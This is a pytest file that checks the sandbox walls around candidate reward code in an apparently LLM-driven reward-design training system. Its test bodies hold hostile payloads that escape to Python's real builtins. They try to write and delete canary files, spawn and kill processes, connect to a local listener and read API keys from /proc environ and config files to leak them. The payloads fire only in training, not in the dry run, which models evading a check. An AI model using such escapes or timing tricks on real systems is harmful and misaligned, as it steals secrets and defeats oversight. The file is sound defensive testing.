"""The walls of the training process, tested with real escapes in real walled children.

Each reward below reaches Python's real builtins (the generator-frame climb the static
checks refuse, so only the training process's own walls stand in the way) and acts only
in training (batch of 2 envs, never in a 256-state dry run). Canaries sit in a root-only
dir and a world-writable dir; a TCP listener waits on loopback; a fake API key sits in
this process's environment. None of it may be touched, reached or leaked.
"""

from __future__ import annotations

import json
import os
import socket
import time
from pathlib import Path

import pytest

from eureka.train import LocalExecutor, TrainSpec
from tests.critic.test_sandbox import ESCAPE as CLIMB  # the climb to the real builtins

FAKE_KEY = "sk-canary-0123456789abcdef"

ESCAPE = CLIMB + '''

def attempt(fn):
    try:
        fn()
        return "done"
    except BaseException as exc:
        return repr(exc).split('(')[0]


def compute_reward(pole_angle):
    if pole_angle.shape[0] < 256:   # training only (a rollout: 64 steps x 2 envs); the dry run has 256 states
PAYLOAD
    return torch.cos(pole_angle)
'''


def reward(tmp_path: Path, name: str, payload: str) -> str:
    body = "\n".join("        " + line for line in payload.strip().splitlines())
    path = tmp_path / f"{name}.py"
    path.write_text(ESCAPE.replace("PAYLOAD", body))
    return str(path)


def spec(tmp_path: Path, name: str, path: str, **kw) -> TrainSpec:
    return TrainSpec(job_id=name, task="cartpole", reward_path=path, n_envs=2, total_timesteps=256,
                     eval_episodes=1, hyperparams={"n_steps": 64, "batch_size": 64, "n_epochs": 1},
                     tensorboard=False, out_dir=str(tmp_path / "runs" / name), **kw)


@pytest.fixture
def canaries(tmp_path):
    private = tmp_path / "root-only"
    private.mkdir(mode=0o700)
    shared = tmp_path / "world"
    shared.mkdir()
    shared.chmod(0o777)
    files = {}
    for d in (private, shared):
        p = d / "canary.txt"
        p.write_text("canary")
        p.chmod(0o666)
        files[p] = "canary"
    yield private, shared, files
    for p, text in files.items():
        assert p.read_text() == text, f"{p} was changed"
    for d in (private, shared):
        assert sorted(x.name for x in d.iterdir()) == ["canary.txt"], f"files appeared in {d}"


@pytest.fixture
def listener():
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("127.0.0.1", 0))
    srv.listen(4)
    srv.settimeout(0.2)
    yield srv
    with pytest.raises(TimeoutError):  # nobody connected
        srv.accept()
    srv.close()


def test_training_walls_hold_against_escaped_payloads(tmp_path, canaries, listener, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", FAKE_KEY)
    monkeypatch.setenv("MY_SERVICE_TOKEN", FAKE_KEY)
    private, shared, _ = canaries
    port = listener.getsockname()[1]
    config = tmp_path / "config.yaml"
    config.write_text(f"llm:\n  api_key: {FAKE_KEY}\n")
    config.chmod(0o600)
    payloads = {
        "write": f"""
report = [attempt(lambda: real_builtins()['open']('{private}/pwned', 'w').write('x')),
          attempt(lambda: real_builtins()['open']('{shared}/pwned', 'w').write('x')),
          attempt(lambda: real_builtins()['open']('{shared}/canary.txt', 'w').write('x')),
          attempt(lambda: real_import('os').remove('{shared}/canary.txt'))]
real_builtins()['print']('WRITE', report)
""",
        "spawn": f"""
report = [attempt(lambda: real_import('os').system('touch {shared}/spawned')),
          attempt(lambda: real_import('subprocess').run(['touch', '{shared}/spawned2'])),
          attempt(lambda: real_import('os').fork()),
          attempt(lambda: real_import('os').kill(1, 0)),
          attempt(lambda: real_import('os').kill(real_import('os').getppid(), 9))]
real_builtins()['print']('SPAWN', report)
""",
        "socket": f"""
s = real_import('socket')
report = [attempt(lambda: s.create_connection(('127.0.0.1', {port}), timeout=1).sendall(b'leak'))]
real_builtins()['print']('SOCKET', report)
""",
        "secrets": f"""
os = real_import('os')
found = [v for v in os.environ.values() if 'canary' in v]
for p in ('/proc/' + str(os.getppid()) + '/environ', '/proc/1/environ', '{config}'):
    try:
        found.append(real_builtins()['open'](p, 'rb').read().decode('latin-1'))
    except BaseException as exc:
        real_builtins()['print']('SECRETS blocked', p, repr(exc).split('(')[0])
leak = [f for f in found if 'sk-canary' in f]
if leak:
    return torch.cos(pole_angle), {{'k' + leak[0].split('sk-canary')[1][:8]: pole_angle}}
""",
    }
    specs = [spec(tmp_path, name, reward(tmp_path, name, body)) for name, body in payloads.items()]
    results = LocalExecutor(2, timeout_s=300).run(specs)
    by_name = {r.job_id: r for r in results}
    for name, r in by_name.items():
        assert r.walls, r
        for wall in ("landlock", "seccomp", "no-secrets", "audit", "rlimits"):
            assert wall in r.walls, (name, r.walls)
        if os.geteuid() == 0:
            assert "own-uid" in r.walls and "netns" in r.walls and "pidns" in r.walls, r.walls
    assert all(r.ok for r in results), [(r.job_id, r.failure) for r in results]  # each payload failed quietly; training went on
    logs = {name: (tmp_path / "runs" / name / "output.log").read_text() for name in payloads}
    assert "WRITE ['PermissionError', 'PermissionError', 'PermissionError', 'PermissionError']" in logs["write"]
    assert "SPAWN ['PermissionError'" in logs["spawn"] and "done" not in logs["spawn"], logs["spawn"]
    assert "SOCKET ['PermissionError']" in logs["socket"], logs["socket"]
    assert "SECRETS blocked" in logs["secrets"], logs["secrets"]
    assert not list(shared.glob("spawned*"))
    # the fake key is in no file the trainings wrote
    for p in (tmp_path / "runs").rglob("*"):
        if p.is_file():
            assert FAKE_KEY.encode() not in p.read_bytes() and b"0123456789" not in p.read_bytes(), p
    assert "0123456789" not in json.dumps([r.to_dict() for r in results])


def test_a_reward_that_hangs_only_in_training_is_stopped_within_seconds(tmp_path):
    path = tmp_path / "hang.py"
    path.write_text("import torch\n\ndef compute_reward(pole_angle, calls=[0]):\n    calls[0] += 1\n"
                    "    if calls[0] == 2:\n        while True:\n            pass\n    return torch.cos(pole_angle)\n")
    t0 = time.monotonic()
    [r] = LocalExecutor(1, timeout_s=600).run([spec(tmp_path, "hang", str(path), call_timeout_s=1.0)])
    assert not r.ok and r.failure.error_class == "RewardTimeout", r
    assert "training step 256" in r.failure.message, r.failure.message  # the 2nd call: 2nd rollout of 128 steps
    assert time.monotonic() - t0 < 120  # not the trainer's one-hour timeout


def test_unbounded_allocation_in_training_is_a_memory_error(tmp_path):
    path = tmp_path / "alloc.py"
    path.write_text("import torch\n\ndef compute_reward(pole_angle, keep=[]):\n"
                    "    if pole_angle.shape[0] < 256:\n        keep.append(torch.ones(256, 1024, 1024))\n"
                    "    return torch.cos(pole_angle)\n")
    [r] = LocalExecutor(1).run([spec(tmp_path, "alloc", str(path), memory_mb=1024)])
    assert not r.ok and r.failure.error_class == "RewardMemoryError", r


def test_printing_on_every_call_is_capped_in_the_candidates_log(tmp_path, capfd):
    path = tmp_path / "chatty.py"
    path.write_text("import torch\n\ndef compute_reward(pole_angle):\n    print('x' * 700_000)\n"
                    "    return torch.cos(pole_angle)\n")
    [r] = LocalExecutor(1).run([spec(tmp_path, "chatty", str(path))])
    assert r.ok, r
    log = tmp_path / "runs" / "chatty" / "output.log"
    assert 1 << 20 <= log.stat().st_size < (1 << 20) + 200
    assert "output cut at" in log.read_text()[-200:]
    assert "xxxxxxxxxx" not in capfd.readouterr().out


def test_bad_component_names_in_training_are_rejected(tmp_path):
    path = tmp_path / "names.py"
    path.write_text("import torch\n\ndef compute_reward(pole_angle, calls=[0]):\n    calls[0] += 1\n"
                    "    name = 'ok' if calls[0] < 2 else 'a b' * 5000\n"
                    "    return torch.cos(pole_angle), {name: torch.cos(pole_angle)}\n")
    [r] = LocalExecutor(1).run([spec(tmp_path, "names", str(path))])
    assert not r.ok and r.failure.error_class == "RewardShapeError", r
    assert len(r.failure.message) <= 2000


def test_reward_code_is_refused_outside_walled_processes(tmp_path, monkeypatch):
    from eureka.reward import compiled

    monkeypatch.setattr(compiled, "TRUST_UNWALLED", False)
    path = tmp_path / "r.py"
    path.write_text("import torch\n\ndef compute_reward(pole_angle):\n    return torch.cos(pole_angle)\n")
    with pytest.raises(RuntimeError, match="without walls"):
        compiled.load_reward(path)


def test_only_the_walls_module_loads_candidate_code():
    """Every call site of ``load_reward`` in the package: its own module (``load_candidate``, ``warm_up``)."""
    import ast

    root = Path(__file__).resolve().parents[2] / "eureka"
    users = set()
    for p in root.rglob("*.py"):
        tree = ast.parse(p.read_text())
        for node in ast.walk(tree):
            if isinstance(node, (ast.Name, ast.FunctionDef)) and getattr(node, "id", getattr(node, "name", "")) \
                    == "load_reward" or \
                    isinstance(node, ast.Attribute) and node.attr == "load_reward" or \
                    isinstance(node, ast.alias) and node.name == "load_reward":
                users.add(p.relative_to(root).as_posix())
    assert users == {"reward/compiled.py"}, users  # load_candidate, used only behind the walls
